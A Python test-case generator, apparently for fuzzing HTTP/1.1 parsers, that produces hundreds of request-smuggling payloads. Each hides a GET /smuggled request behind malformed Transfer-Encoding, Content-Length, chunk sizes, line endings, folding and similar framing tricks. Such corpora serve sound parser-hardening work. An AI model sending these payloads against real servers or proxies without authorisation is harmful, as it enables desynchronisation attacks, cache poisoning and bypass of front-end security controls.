"""Requests that try to carry another one past whoever reads them: made from every odd byte in every odd place of what frames
a message. In each, the second request lies inside the first by the only reading that RFC 9112 allows, if there is one."""

# Controls, white space, and what looks like it in some character set; quotes, separators, and letters next to the real ones.
ODD = [bytes([byte]) for byte in (*range(0x21), 0x7F, 0x80, 0x85, 0xA0, 0xAD, 0xFF, *b"\"',;:=/\\_+")]
ENDS = [b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\n", b"\r\x00\n", b"\x0b", b"\x0c", b"\x85", b"\xe2\x80\xa8", b""]
CODINGS = [
    "chunked, chunked", "chunked,chunked", "gzip, chunked", "chunked, gzip", "identity", "identity, chunked", "chunked, identity", "xchunked",
    "chunkedx", "x chunked", "chunked x", "chunked;", "chunked;q=1", "chunked; a=b", "chunked,", ", chunked", ",chunked", "'chunked'", '"chunked"',
    "(c) chunked", "chunk", "chunke", "c hunked", "cow", "deflate", "compress, chunked", "0", "chunked\\", "CHUNKED,identity", "", "%63hunked", "chunked, ",
]
LENGTHS = [
    "+{}", "-{}", "0x{:x}", "{}.0", "{}e0", "{}, {}", "{},{}", "{},", ",{}", "{};", "{} {}", "0 {}", "{} 0", "'{}'", '"{}"', "{}a", "a{}", "{}_0",
    "1_{}", "{}h", "0o{:o}", "0b{:b}", "1{:0>20}", "{}%20", "${}", "", "\u0665", "\u00b2{}", "Infinity", "NaN", "null", "18446744073709551616", "-1", "--{}",
]
SIZES = [
    "0x{:x}", "+{:x}", "-{:x}", "{:x} ", "{:x}\t", " {:x}", "{:0>17x}", "1{:0>16x}", "{:x}h", "{:x}_", "{:x},", "{:x} 0", "{:x}.0", "#{:x}", "{:x}\\", "", ";a",
    "'{:x}'", "{:x};a\n", "{:x};a\r", "{:x};a=\"", "{:x};\x00", "{:x};\n0", "g{:x}", "{:x}x", "{:x}\x0b", "{:x}\x0c;a", "0{:x}\n", "{:x}\u0661", "{:x}=a",
    "fffffffffffff{:0>3x}", "8000000000000{:0>3x}", "1_{:x}", "{:x};a=\"\r\n\"", "{:x};a='\n'", "{:x};\x7f", "{:x}\u2028", "{:x}\x85", "{:x}\xa0",
]
VERSIONS = ["", "HTTP/0.9", "HTTP/1.2", "HTTP/1.01", "HTTP/01.1", "HTTP/1.1x", "HTTP/1.1 x", "HTTP/2", "HTTP/2.0", "HTTP/3", "http/1.1", "HTTP /1.1", "HTTP/1,1", "HTTP/1.", "HTTP/.1", "ICY/1.1"]
TARGETS = ["", "x", "*", "//", "http://", "http:///x", "http://u@case/", "ftp://case/", "case:80", "/a b", "/a\tb", "/a\x00b", "/a#b", "/a\\b c", "?x", "http://other/ x"]


def cases(host=b"case"):
    """Pairs of a name and the bytes; the second request asks for /smuggled."""
    hidden = b"GET /smuggled HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
    chunks = b"0\r\n\r\n" + hidden

    def post(fields, body, line=b"POST /case HTTP/1.1"):
        return line + b"\r\nHost: " + host + b"\r\n" + fields + b"\r\n" + body

    def both(coding):
        """A length that covers all, and chunks that end before the second request."""
        return post(b"Content-Length: %d\r\n" % len(chunks) + coding + b"\r\n", chunks)

    def short(coding):
        """A length of what comes before the second request's chunk, and chunks that cover all."""
        size = b"%x\r\n" % len(hidden)
        return post(coding + b"\r\nContent-Length: %d\r\n" % len(size), size + hidden + b"\r\n0\r\n\r\n")

    plain = b"Transfer-Encoding: chunked"
    yield "a length and chunks", both(plain)
    yield "chunks and a length", short(plain)
    for odd in ODD:
        places = {
            "before the name": odd + plain,
            "in the name": b"Transfer" + odd + b"Encoding: chunked",
            "added to the name": b"Transfer-" + odd + b"Encoding: chunked",
            "before the colon": b"Transfer-Encoding" + odd + b": chunked",
            "behind the colon": b"Transfer-Encoding:" + odd + b"chunked",
            "before the value": b"Transfer-Encoding: " + odd + b"chunked",
            "in the value": b"Transfer-Encoding: chu" + odd + b"nked",
            "behind the value": b"Transfer-Encoding: chunked" + odd,
            "around the line's end": b"X: y" + odd + b"\r\n" + odd + plain,
            "instead of a line's end": b"X: y" + odd + plain,
            "instead of a line's start": b"X: y\r\n" + odd + b"\r\n" + plain,
        }
        for place, coding in places.items():
            yield f"{odd!r} {place} of a coding", both(coding)
        yield f"{odd!r} behind a coding, a short length", short(plain + odd)
        length = b"%d" % len(hidden)
        for place, field in {
            "before the name": odd + b"Content-Length: " + length,
            "before the colon": b"Content-Length" + odd + b": " + length,
            "before the value": b"Content-Length: " + odd + length,
            "in the value": b"Content-Length: " + length[:1] + odd + length[1:],
            "behind the value": b"Content-Length: " + length + odd,
        }.items():
            # White space around a value is no part of it.
            if not (odd in b" \t" and "value" in place and "in" != place[:2]):
                yield f"{odd!r} {place} of a length", post(field + b"\r\n", hidden)
        size = b"%x" % len(hidden)
        for place, line in {"before": odd + size, "in": size[:1] + odd + size[1:], "behind": size + odd}.items():
            yield f"{odd!r} {place} a chunk's size", post(plain + b"\r\n", line + b"\r\n" + hidden + b"\r\n0\r\n\r\n")
        yield f"{odd!r} before the request", odd + both(plain)
        yield f"{odd!r} in the host", both(plain).replace(b"Host: " + host, b"Host: " + host + odd + b"x", 1)
    for coding in CODINGS:
        field = b"Transfer-Encoding: " + coding.encode()
        yield f"the coding {coding!r}", both(field)
        yield f"the coding {coding!r}, then chunked", both(field + b"\r\n" + plain)
        yield f"chunked, then the coding {coding!r}", both(plain + b"\r\n" + field)
        yield f"the coding {coding!r} alone", post(field + b"\r\n", chunks)
    for name in ("transfer_encoding", "Transfer_Encoding", "TRANSFER_ENCODING", "Transfer--Encoding", "Transfer Encoding", "TransferEncoding:", "Transfer-Encoding:"):
        yield f"the name {name!r}", both(name.encode() + b": chunked")
    for form in LENGTHS:
        value = form.format(len(hidden), len(hidden)).encode()
        yield f"the length {form!r}", post(b"Content-Length: " + value + b"\r\n", hidden)
        yield f"the length {form!r}, then a good one", post(b"Content-Length: " + value + b"\r\nContent-Length: %d\r\n" % len(hidden), hidden)
        yield f"a good length, then {form!r}", post(b"Content-Length: %d\r\nContent-Length: " % len(hidden) + value + b"\r\n", hidden)
    for other in (b"0", b"%d" % (len(hidden) - 1), b"%d" % (len(hidden) + 1)):
        for pair in ((other, b"%d" % len(hidden)), (b"%d" % len(hidden), other)):
            yield f"two lengths {pair}", post(b"Content-Length: %s\r\nContent-Length: %s\r\n" % pair, hidden)
    for form in SIZES:
        line = form.format(len(hidden)).encode()
        yield f"the chunk {form!r}", post(plain + b"\r\n", line + b"\r\n" + hidden + b"\r\n0\r\n\r\n")
        yield f"a chunk, then {form!r}", post(plain + b"\r\n", b"1\r\nx\r\n" + line + b"\r\n" + hidden + b"\r\n0\r\n\r\n")
        upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
        yield f"the chunk {form!r} of an upgrade", post(upgrade + plain + b"\r\n", line + b"\r\n" + hidden + b"\r\n0\r\n\r\n")
    size = b"%x" % len(hidden)
    for end in ENDS:
        yield f"{end!r} behind the request line", both(plain).replace(b"HTTP/1.1\r\n", b"HTTP/1.1" + end, 1)
        yield f"{end!r} behind a field", post(b"X: y" + end + plain + b"\r\nContent-Length: %d\r\n" % len(chunks), chunks)
        # What ends no line by any reading would leave the second request a good one, behind the first.
        if end and end < b"\x80":
            yield f"{end!r} behind a length", post(b"X: y" + end + b"Content-Length: %d\r\n" % len(hidden), hidden)
        yield f"{end!r} behind the head", post(b"Content-Length: %d\r\n" % len(hidden), b"")[:-2] + end + hidden
        yield f"{end!r} behind a chunk's size", post(plain + b"\r\n", size + end + hidden + b"\r\n0\r\n\r\n")
        yield f"{end!r} in an extension", post(plain + b"\r\n", size + b";a" + end + b"b\r\n" + hidden + b"\r\n0\r\n\r\n")
        yield f"{end!r} behind a chunk", post(plain + b"\r\n", size + b"\r\n" + hidden + end + b"0\r\n\r\n")
        yield f"{end!r} behind the last size", post(plain + b"\r\n", b"0" + end + end + hidden)
        yield f"{end!r} behind a trailer", post(plain + b"\r\n", b"0\r\nX: y" + end + end + hidden)
    for version in VERSIONS:
        line = f"POST /case {version}".rstrip(" ").encode()
        yield f"the version {version!r}", post(b"Content-Length: %d\r\n" % len(hidden), hidden, line)
    yield "chunks in HTTP/1.0", post(plain + b"\r\n", chunks, b"POST /case HTTP/1.0")
    yield "chunks and a length in HTTP/1.0", both(plain).replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    for target in TARGETS:
        yield f"the target {target!r}", post(b"Content-Length: %d\r\n" % len(hidden), hidden, f"POST {target} HTTP/1.1".encode())
    for spaces in ("POST  /case HTTP/1.1", "POST /case  HTTP/1.1", "POST\t/case HTTP/1.1", "POST /case\tHTTP/1.1", " POST /case HTTP/1.1", "POST /case HTTP/1.1 "):
        yield f"the line {spaces!r}", post(b"Content-Length: %d\r\n" % len(hidden), hidden, spaces.encode())
    for named in ("content-length", "transfer-encoding", "host", "close, content-length", "Content-Length, Transfer-Encoding", "te, trailer, content-length"):
        field = f"Connection: {named}\r\n".encode()
        yield f"Connection names {named!r} of a length", post(field + b"Content-Length: %d\r\n" % len(hidden), hidden)
        yield f"Connection names {named!r} of both", post(field + b"Content-Length: %d\r\n%s\r\n" % (len(chunks), plain), chunks)
    for method in ("GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "QUERY"):
        yield f"{method} with a length", post(b"Content-Length: %d\r\n" % len(hidden), hidden, f"{method} /case HTTP/1.1".encode())
        yield f"{method} with both", post(b"Content-Length: %d\r\n%s\r\n" % (len(chunks), plain), chunks, f"{method} /case HTTP/1.1".encode())
    for expect in ("100-continue", "x", "100-continue, x", "y 100-continue", "100-Continue ", ""):
        yield f"Expect: {expect!r} with a length", post(f"Expect: {expect}\r\n".encode() + b"Content-Length: %d\r\n" % len(hidden), hidden)
    for upgrade in ("h2c", "websocket", "HTTP/2.0", "TLS/1.0, h2c", "x"):
        fields = f"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: {upgrade}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n".encode()
        yield f"Upgrade: {upgrade} with a length", post(fields + b"Content-Length: %d\r\n" % len(hidden), hidden)
    yield "CONNECT with a length", post(b"Content-Length: %d\r\n" % len(hidden), hidden, b"CONNECT case:80 HTTP/1.1")
    for fold in (b" ", b"\t", b" \t"):
        yield f"a coding folded by {fold!r}", both(b"Transfer-Encoding:\r\n" + fold + b"chunked")
        yield f"a length folded by {fold!r}", post(b"Content-Length:\r\n" + fold + b"%d\r\n" % len(hidden), hidden)
        yield f"a coding folded into a field by {fold!r}", both(b"X: y\r\n" + fold + plain)
    for trailer in (b"Content-Length: 5", b"Transfer-Encoding: chunked", b"Host: other", b"Content-Length : 5", b" X: y", b"X"):
        yield f"the trailer {trailer!r}", post(plain + b"\r\n", size + b"\r\n" + hidden + b"\r\n0\r\n" + trailer + b"\r\n\r\n")
